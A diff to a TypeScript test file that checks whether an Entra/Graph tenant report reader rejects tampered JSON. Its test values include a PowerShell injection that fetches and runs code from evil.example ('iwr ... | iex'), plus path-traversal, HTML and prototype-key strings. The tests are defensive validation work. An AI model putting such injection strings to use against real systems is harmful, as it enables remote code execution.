@@ -1,13 +1,18 @@
+import { readFileSync } from 'node:fs';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { timeAtMicrosoft } from '../../src/checks/clock';
 import { HIDDEN_HINT, hintsAreHidden } from '../../src/report/discretion';
-import { makeReport, parseReport, problemOf, RULES, type Report } from '../../src/report/report';
-import { inputsOf } from '../../src/ui/session/inputs';
+import { checkedFacts } from '../../src/report/facts';
+import { pseudonymise } from '../../src/report/pseudonyms';
+import { makeReport, parseReport, problemOf, readReport, RULES, type Report } from '../../src/report/report';
+import { isPseudonym } from '../../src/tenant/pseudonym';
+import type { Snapshot } from '../../src/tenant/snapshot';
 import { demos } from '../../src/emulator/tenants';
+import { guide, judged, NOW, reopened, reportOf, SALT, statuses, visited, visits } from './made';
+import { inputsOf } from '../../src/ui/session/inputs';
 import { work } from '../project/work';
 import { settings } from '../properties/settings';
-import { guide, judged, NOW, reopened, reportOf, statuses, visited, visits } from './made';
 
 /** A secret as Entra makes them, and a token. */
 const SECRET = ['Wq3', '8Q~', 'AbCdEfGhIjKlMnOpQrStUvWxYz_.12345'].join('');
@@ -112,10 +117,11 @@ describe('a report', () => {
     expect(inputsOf({ ...form, secretStart: '' }, snapshot).secret).toEqual(inputs.secret);
   });
 
-  test('of any directory judges the same when it is opened', async () => {
+  test('of any directory that Graph can describe judges the same when it is opened', async () => {
     await fc.assert(
       fc.asyncProperty(visits, async (visit) => {
         const { snapshot, inputs, now } = await visit();
+        fc.pre(isGraphs(snapshot));
         const before = judged({ snapshot, inputs }, now);
         const opened = reopened(makeReport({ guide: guide.name, snapshot, inputs, now }));
         // It is opened at a computer whose clock is right, whatever the one was that read.
@@ -123,6 +129,96 @@ describe('a report', () => {
       }),
       settings(20),
     );
+  });
+});
+
+/** Whether every id, date and enumeration is one, as Graph's own types demand. */
+const isGraphs = ({ facts }: Snapshot) =>
+  Object.entries(checkedFacts(facts)).every(([name, { ok }]) => ok === facts[name as keyof typeof facts]?.ok);
+
+describe('a report of what Graph would never send', () => {
+  test('is never greener than what was read', async () => {
+    let odd = 0;
+    await fc.assert(
+      fc.asyncProperty(visits, async (visit) => {
+        const { snapshot, inputs, now } = await visit();
+        fc.pre(!isGraphs(snapshot));
+        odd += 1;
+        const before = new Map(judged({ snapshot, inputs }, now).map(({ number, status }) => [number, status]));
+        const opened = reopened(makeReport({ guide: guide.name, snapshot, inputs, now }));
+        const greener = judged(opened, now).filter(
+          ({ number, status }) => status === 'pass' && before.get(number) !== 'pass' && before.get(number) !== 'warn',
+        );
+        expect(greener).toEqual([]);
+      }),
+      settings(50),
+    );
+    expect(odd).toBeGreaterThan(5);
+  }, 60_000);
+
+  const spoil = async (from: RegExp, to: string) => {
+    const json = JSON.stringify(await reportOf('fertig'));
+    expect(json).toMatch(from);
+    return JSON.parse(json.replace(from, to)) as unknown;
+  };
+
+  test.each([
+    [
+      'an application id',
+      /("application":\{.*?"appId":)"[^"]*"/,
+      `$1"x'; iwr https://evil.example | iex; $z='"`,
+      'snapshot.facts.application.value.appId',
+    ],
+    ['an object id', /("organization":\{.*?"id":)"[^"]*"/, '$1"../../x"', 'snapshot.facts.organization.value.id'],
+    [
+      'an id of a secret',
+      /("typedApplication":\{.*?"keyId":)"[^"]*"/,
+      '$1"<b>"',
+      'snapshot.facts.typedApplication.value.passwordCredentials.keyId',
+    ],
+    [
+      'an id of an API',
+      /("application":\{.*?"resourceAppId":)"[^"]*"/,
+      '$1"constructor"',
+      'snapshot.facts.application.value.requiredResourceAccess.resourceAppId',
+    ],
+    ['a directory', /"tenantId":"[^"]*"/, '"tenantId":"musterbau"', 'snapshot.account.tenantId'],
+    ['a time of reading', /"readAt":"[^"]*"/, '"readAt":"gestern"', 'snapshot.readAt'],
+    ['a source', /"source":"demo"/, '"source":"evil"', 'source'],
+  ])('is refused with its place: %s that is none', async (_, from, to, place) => {
+    expect(readReport(await spoil(from, to))).toEqual({ problem: 'damaged', place });
+  });
+
+  test.each([
+    ['an end', /("application":\{.*?"endDateTime":)"[^"]*"/, '$1"bald"'],
+    ['an account type', /("application":\{.*?"signInAudience":)"[^"]*"/, '$1"Nur wir"'],
+    ['a kind of permission', /("application":\{.*?"resourceAccess":\[\{[^}]*"type":)"[^"]*"/, '$1"Role; x"'],
+  ])('loses the fact: %s that is none', async (_, from, to) => {
+    const opened = readReport(await spoil(from, to));
+    expect('snapshot' in opened && opened.snapshot.facts.application).toEqual({ ok: false, reason: 'malformed' });
+  });
+
+  test('may have asked for something that is no id, and then it asked for nothing', async () => {
+    const opened = reopened(await spoil(/("ask":\{.*?"appId":)"[^"]*"/, `$1"x'; iwr"`));
+    expect(opened.snapshot.ask.appId).toBeUndefined();
+  });
+});
+
+describe('a report of former days', () => {
+  const old = (name: string) =>
+    JSON.parse(readFileSync(new URL(`old/${name}.json`, import.meta.url), 'utf8')) as Record<string, unknown>;
+
+  test('opens, and is judged as it was', async () => {
+    const opened = reopened(old('named'));
+    expect(statuses(judged(opened))).toEqual(statuses(judged(await visited('halb-fertig'))));
+    expect(opened.case).toBeUndefined();
+  });
+
+  test('with pseudonyms opens with those of today', async () => {
+    const opened = reopened(old('hidden'));
+    expect(isPseudonym(opened.inputs.clientId)).toBe(true);
+    expect(statuses(judged(opened))).toEqual(statuses(judged(await visited('fertig'))));
+    expect(opened).toEqual(reopened(await pseudonymise(await reportOf('fertig'), SALT)));
   });
 });
 
@@ -196,7 +292,7 @@ describe('a report with something wrong in it', () => {
       exchange: { ewsEnabled: 'ja' },
     };
     const opened = reopened({ ...report, inputs });
-    expect(opened.inputs).toEqual({ clientId: '', domain: '', ticks: [], exchange: 'not-understood' });
+    expect(opened.inputs).toEqual({ clientId: '', domain: '', ticks: [], exchange: { instead: 'unrecognised' } });
     expect(statuses(judged(opened)).filter((one) => /^(5|11|12)/.test(one))).toEqual([
       '5.1 unknown not-typed',
       '5.2 unknown not-typed',
@@ -236,7 +332,7 @@ describe('a report with something wrong in it', () => {
     const organization = (verifiedDomains: unknown) => ({
       ok: true,
       proof: 'graph',
-      value: [{ id: 'x', verifiedDomains }],
+      value: [{ id: '3f0c6a52-7d41-4b8e-9a63-51c0e7d2b894', verifiedDomains }],
     });
     const opened = [domains, [{ name: 'x'.repeat(1_000_000) }]].map((all) =>
       reopened({ ...report, snapshot: { ...report.snapshot, facts: { organization: organization(all) } } }),
